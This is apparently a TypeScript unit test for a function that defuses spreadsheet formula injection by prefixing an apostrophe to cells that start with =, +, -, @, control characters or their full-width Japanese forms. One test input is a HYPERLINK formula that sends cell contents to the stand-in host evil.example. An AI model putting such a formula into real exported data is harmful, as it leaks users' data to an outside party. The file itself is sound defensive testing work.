import { expect } from 'chai';
import { neutraliseSpreadsheetCell } from '../../src/lib/spreadsheet.js';

describe('neutraliseSpreadsheetCell', () => {
  const cases: [string, string][] = [
    ['=1+1', "'=1+1"],
    [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
    ],
    ['+81-26-000-0000', "'+81-26-000-0000"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['', ''],
    ['長野 花子', '長野 花子'],
    ['a=1', 'a=1'],
    [' =1', ' =1'], // only the first character counts
    ["'=1", "'=1"], // already text
    ['12', '12'],
    ['＝1+1', "'＝1+1"], // full width: Japanese Excel reads ＝ as =
    ['＋81', "'＋81"],
    ['－1', "'－1"],
    ['＠SUM(A1)', "'＠SUM(A1)"],
  ];
  for (const [input, expected] of cases) {
    it(`turns ${JSON.stringify(input)} into ${JSON.stringify(expected)}`, () => {
      expect(neutraliseSpreadsheetCell(input)).to.equal(expected);
    });
  }
});
